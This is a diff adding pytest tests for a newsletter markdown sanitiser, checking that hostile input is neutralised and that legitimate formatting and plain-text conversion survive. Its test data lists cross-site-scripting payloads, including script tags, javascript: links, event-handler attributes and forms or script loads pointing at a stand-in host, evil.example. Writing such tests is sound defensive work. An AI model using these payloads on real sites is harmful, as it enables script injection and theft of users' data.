@@ -1,0 +1,113 @@
+"""Markdown becomes safe HTML: hostile input is neutralised, real formatting survives."""
+
+import re
+
+import pytest
+
+from newsletters.markup import html_to_text, markdown_to_html
+
+HOSTILE = [
+    ("script tag", "<script>alert('x')</script>", ["<script", "alert"]),
+    ("script, upper case", "<SCRIPT SRC=//evil.example/x.js>steal()</SCRIPT>", ["script", "steal", "evil"]),
+    ("nested script trick", "<scr<script>ipt>alert(1)</script>", ["<script", "alert"]),
+    ("unclosed script", "Hi\n\n<script>alert(1)", ["<script", "alert"]),
+    ("style element", "<style>body{display:none}</style>Text", ["<style", "display:none"]),
+    ("javascript link", "[click](javascript:alert(1))", ["javascript", "alert"]),
+    ("javascript link, mixed case", "[click](JaVaScRiPt:alert(1))", ["javascript", "alert"]),
+    ("javascript link, entity encoded", "[click](&#106;avascript:alert(1))", ["javascript", "alert(1)"]),
+    ("javascript link, tab inside", '<a href="java\tscript:alert(1)">x</a>', ["script:", "alert"]),
+    ("javascript reference link", "[click][1]\n\n[1]: javascript:alert(1)", ["javascript", "alert"]),
+    ("javascript autolink", "<javascript:alert(1)>", ["javascript:", 'alert(1)"']),
+    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript"]),
+    ("data URL link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ["data:"]),
+    ("javascript image", "![x](javascript:alert(1))", ["javascript", "alert"]),
+    ("event attribute on img", "<img src=x onerror=alert(1)>", ["onerror", "alert"]),
+    (
+        "event attribute on div",
+        '<div onclick="steal()" onmouseover="steal()">hi</div>',
+        ["onclick", "onmouseover", "steal"],
+    ),
+    ("svg onload", "<svg onload=alert(1)><circle/></svg>", ["<svg", "onload", "alert"]),
+    ("iframe", '<iframe src="https://evil.example"></iframe>', ["<iframe", "evil"]),
+    ("object and embed", "<object data=x.swf></object><embed src=x.swf>", ["<object", "<embed", "swf"]),
+    ("form and input", "<form action=https://evil.example><input name=pw></form>", ["<form", "<input", "evil"]),
+    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', ["<meta", "evil"]),
+    (
+        "base and link",
+        '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
+        ["<base", "<link", "evil"],
+    ),
+    ("style attribute", '<p style="background:url(javascript:alert(1))">x</p>', ["style=", "javascript"]),
+    ("attribute-list injection", 'para\n{: onclick="alert(1)" }', ["onclick", "alert"]),
+    ("html comment", "<!-- <script>alert(1)</script> -->ok", ["<!--", "alert"]),
+    ("textarea breakout", "<textarea><script>alert(1)</script></textarea>", ["<textarea", "alert"]),
+]
+
+
+@pytest.mark.parametrize(("label", "source", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
+def test_hostile_markdown_is_neutralised(label, source, forbidden):
+    html = markdown_to_html(source)
+    lowered = html.lower()
+    for fragment in forbidden:
+        assert fragment.lower() not in lowered, f"{label}: {fragment!r} survived in {html!r}"
+    assert not re.search(r"\son\w+\s*=", lowered), html
+
+
+def test_links_get_rel_and_keep_safe_protocols():
+    html = markdown_to_html("[site](https://example.com/a?b=1&c=2) [mail](mailto:x@example.com) [rel](/n/x/)")
+    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">site</a>' in html
+    assert 'href="mailto:x@example.com"' in html
+    assert 'href="/n/x/"' in html
+    assert html.count('rel="noopener noreferrer"') == 3
+
+
+def test_editor_supplied_rel_is_replaced():
+    html = markdown_to_html('<a href="https://example.com" rel="opener">x</a>')
+    assert 'rel="noopener noreferrer"' in html
+    assert 'rel="opener"' not in html
+
+
+def test_markdown_features_survive():
+    source = (
+        "# Title\n\n## Section\n\n- a\n- b\n\n1. one\n2. two\n\n"
+        "| h1 | h2 |\n|:---|---:|\n| c1 | c2 |\n\n"
+        "```python\nprint('<b>')\n```\n\n"
+        "Text with a note.[^1]\n\n![alt text](https://example.com/i.png)\n\n> quote\n\n[^1]: The note.\n"
+    )
+    html = markdown_to_html(source)
+    for fragment in [
+        "<h1>Title</h1>",
+        "<h2>Section</h2>",
+        "<li>a</li>",
+        "<ol>",
+        '<th align="left">h1</th>',
+        '<td align="right">c2</td>',
+        "<code class=\"language-python\">print('&lt;b&gt;')",
+        '<sup id="fnref:1">',
+        '<li id="fn:1">',
+        '<img alt="alt text" src="https://example.com/i.png">',
+        "<blockquote>",
+    ]:
+        assert fragment in html, fragment
+
+
+def test_empty_markdown_gives_empty_html():
+    assert markdown_to_html("") == ""
+    assert markdown_to_html("   \n") == ""
+
+
+def test_plain_text_keeps_structure_and_links():
+    html = markdown_to_html(
+        "# Big news\n\nRead [the docs](https://docs.example.com/x) now.\n\n## Details\n\n"
+        "- first\n- second with **bold**\n\n1. one\n2. two\n\n```\ncode line\n```\n\n"
+        "| a | b |\n|---|---|\n| 1 | 2 |\n"
+    )
+    text = html_to_text(html)
+    assert "Big news\n========" in text
+    assert "Details\n-------" in text
+    assert "Read the docs <https://docs.example.com/x> now." in text
+    assert "- first\n- second with *bold*" in text
+    assert "1. one\n2. two" in text
+    assert "    code line" in text
+    assert "a | b\n1 | 2" in text
+    assert "<" not in text.replace("<https://docs.example.com/x>", "")
